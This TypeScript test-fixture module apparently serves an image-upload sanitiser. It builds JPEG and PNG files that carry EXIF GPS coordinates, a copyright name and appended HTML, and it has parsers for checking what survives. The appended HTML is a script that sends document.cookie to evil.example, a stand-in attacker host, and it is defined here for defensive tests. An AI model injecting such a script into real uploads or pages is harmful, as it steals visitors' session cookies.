/**
 * Photos as a direct POST can send them, skipping the form's script: a real JPEG carrying an EXIF
 * segment (orientation, GPS position, a copyright line) and a page's HTML after its end; and what the
 * tests read of the bytes kept. Plain TypeScript: no Workers or Node types.
 */

/** What the EXIF segment says: where the photo was taken, and who took it. */
export const exifGps = { latitude: [51, 30, 26], longitude: [0, 7, 39], copyright: "Sam Homeowner" } as const;

/** A page a browser would run, if the bytes were ever served as HTML. */
export const appendedHtml = "<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>";

const ascii = (text: string) => Array.from({ length: text.length }, (_, i) => text.charCodeAt(i));

/** A TIFF structure (big-endian) with IFD0 (Orientation, Copyright, GPSInfo) and a GPS IFD (latitude, longitude). */
function exifTiff(orientation: number): Uint8Array {
  const copyright = [...ascii(exifGps.copyright), 0];
  const ifd0 = 8;
  const copyrightAt = ifd0 + 2 + 3 * 12 + 4;
  const gps = copyrightAt + copyright.length;
  const latitudeAt = gps + 2 + 4 * 12 + 4;
  const longitudeAt = latitudeAt + 24;
  const tiff = new Uint8Array(longitudeAt + 24);
  const view = new DataView(tiff.buffer);
  tiff.set([...ascii("MM"), 0, 42, 0, 0, 0, ifd0]);
  const entries = (at: number, list: [tag: number, type: number, count: number, value: (at: number) => void][]) => {
    view.setUint16(at, list.length);
    for (const [i, [tag, type, count, value]] of list.entries()) {
      const entry = at + 2 + i * 12;
      view.setUint16(entry, tag);
      view.setUint16(entry + 2, type);
      view.setUint32(entry + 4, count);
      value(entry + 8);
    }
    view.setUint32(at + 2 + list.length * 12, 0); // no next IFD
  };
  const SHORT = 3;
  const LONG = 4;
  const ASCII = 2;
  const RATIONAL = 5;
  entries(ifd0, [
    [0x0112, SHORT, 1, (at) => view.setUint16(at, orientation)],
    [0x8298, ASCII, copyright.length, (at) => view.setUint32(at, copyrightAt)],
    [0x8825, LONG, 1, (at) => view.setUint32(at, gps)],
  ]);
  tiff.set(copyright, copyrightAt);
  entries(gps, [
    [0x0001, ASCII, 2, (at) => tiff.set(ascii("N\0"), at)],
    [0x0002, RATIONAL, 3, (at) => view.setUint32(at, latitudeAt)],
    [0x0003, ASCII, 2, (at) => tiff.set(ascii("W\0"), at)],
    [0x0004, RATIONAL, 3, (at) => view.setUint32(at, longitudeAt)],
  ]);
  for (const [at, values] of [
    [latitudeAt, exifGps.latitude],
    [longitudeAt, exifGps.longitude],
  ] as const) {
    for (const [i, value] of values.entries()) {
      view.setUint32(at + i * 8, value);
      view.setUint32(at + i * 8 + 4, 1);
    }
  }
  return tiff;
}

/**
 * The JPEG with an APP1 Exif segment inserted after its start (`orientation`, a GPS position, a copyright
 * line) and `appendedHtml` after its end: what a direct POST kept byte for byte before issue 47.
 */
export function hostileJpeg(jpeg: Uint8Array, orientation: number): Uint8Array<ArrayBuffer> {
  const payload = [...ascii("Exif\0\0"), ...exifTiff(orientation)];
  const length = payload.length + 2;
  return new Uint8Array([
    ...jpeg.subarray(0, 2),
    ...[0xff, 0xe1, length >> 8, length & 0xff],
    ...payload,
    ...jpeg.subarray(2),
    ...new TextEncoder().encode(appendedHtml),
  ]);
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes: Uint8Array) =>
  (bytes.reduce((c, byte) => (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

/** The PNG with a text chunk after its header (where a phone might say where it was), and `appendedHtml` after its end. */
export function hostilePng(png: Uint8Array): Uint8Array<ArrayBuffer> {
  const body = new Uint8Array([...ascii("tEXtComment\0"), ...ascii(`GPS ${exifGps.latitude.join(" ")}`)]);
  const chunk = new Uint8Array(body.length + 8);
  const view = new DataView(chunk.buffer);
  view.setUint32(0, body.length - 4);
  chunk.set(body, 4);
  view.setUint32(body.length + 4, crc32(body));
  const afterHeader = 8 + 25; // the signature, then IHDR: length, type, 13 bytes, CRC
  return withHtml(new Uint8Array([...png.subarray(0, afterHeader), ...chunk, ...png.subarray(afterHeader)]));
}

/** Appends `appendedHtml` to any file. */
export const withHtml = (bytes: Uint8Array): Uint8Array<ArrayBuffer> =>
  new Uint8Array([...bytes, ...new TextEncoder().encode(appendedHtml)]);

/** A JPEG's header segments before its scan: each marker, with the first bytes of its payload as text. */
export function jpegSegments(jpeg: Uint8Array): { marker: number; label: string }[] {
  const view = new DataView(jpeg.buffer, jpeg.byteOffset, jpeg.byteLength);
  const segments: { marker: number; label: string }[] = [];
  let at = 2;
  while (at + 4 <= jpeg.length && jpeg[at] === 0xff) {
    const marker = jpeg[at + 1] ?? 0;
    const length = view.getUint16(at + 2);
    segments.push({ marker, label: String.fromCharCode(...jpeg.subarray(at + 4, at + 4 + Math.min(4, length - 2))) });
    if (marker === 0xda) break;
    at += 2 + length;
  }
  return segments;
}

/** Whether `needle` occurs in `bytes`. */
export function containsBytes(bytes: Uint8Array, needle: Uint8Array): boolean {
  outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
    for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
    return true;
  }
  return false;
}

/** The chunks of a PNG, by type, in order. */
export function pngChunks(png: Uint8Array): { type: string; data: Uint8Array; end: number }[] {
  const view = new DataView(png.buffer, png.byteOffset, png.byteLength);
  const chunks: { type: string; data: Uint8Array; end: number }[] = [];
  let at = 8;
  while (at + 12 <= png.length) {
    const length = view.getUint32(at);
    const type = String.fromCharCode(...png.subarray(at + 4, at + 8));
    const end = at + 12 + length;
    chunks.push({ type, data: png.subarray(at + 8, at + 8 + length), end });
    if (type === "IEND") break;
    at = end;
  }
  return chunks;
}

/**
 * The first channel of each pixel of an 8-bit, non-interlaced PNG (grey, grey with alpha, RGB or RGBA),
 * row by row: enough to tell dark from light.
 */
export async function pngLightness(png: Uint8Array): Promise<number[][]> {
  const chunks = pngChunks(png);
  const header = chunks.find((chunk) => chunk.type === "IHDR")?.data ?? new Uint8Array();
  const view = new DataView(header.buffer, header.byteOffset, header.byteLength);
  const [width, height, depth, colour, interlace] = [
    view.getUint32(0),
    view.getUint32(4),
    header[8],
    header[9] ?? 0,
    header[12],
  ];
  if (depth !== 8 || interlace !== 0) throw new Error(`Not an 8-bit, non-interlaced PNG: depth ${depth}`);
  const channels = ({ 0: 1, 2: 3, 4: 2, 6: 4 } as Record<number, number>)[colour];
  if (!channels) throw new Error(`PNG colour type ${colour} not read here`);
  const compressed = new Blob(chunks.filter((chunk) => chunk.type === "IDAT").map((chunk) => chunk.data.slice()));
  const raw = new Uint8Array(
    await new Response(compressed.stream().pipeThrough(new DecompressionStream("deflate"))).arrayBuffer(),
  );
  const stride = width * channels;
  let previous = new Uint8Array(stride);
  const rows: number[][] = [];
  for (let y = 0; y < height; y++) {
    const filter = raw[y * (stride + 1)];
    const line = raw.slice(y * (stride + 1) + 1, (y + 1) * (stride + 1));
    for (let x = 0; x < stride; x++) {
      const left = x >= channels ? (line[x - channels] ?? 0) : 0;
      const up = previous[x] ?? 0;
      const upLeft = x >= channels ? (previous[x - channels] ?? 0) : 0;
      const paeth = () => {
        const p = left + up - upLeft;
        const [pa, pb, pc] = [Math.abs(p - left), Math.abs(p - up), Math.abs(p - upLeft)];
        return pa <= pb && pa <= pc ? left : pb <= pc ? up : upLeft;
      };
      const predicted = [0, left, up, (left + up) >> 1, paeth()][filter ?? 0] ?? 0;
      line[x] = ((line[x] ?? 0) + predicted) & 0xff;
    }
    rows.push(Array.from({ length: width }, (_, x) => line[x * channels] ?? 0));
    previous = line;
  }
  return rows;
}
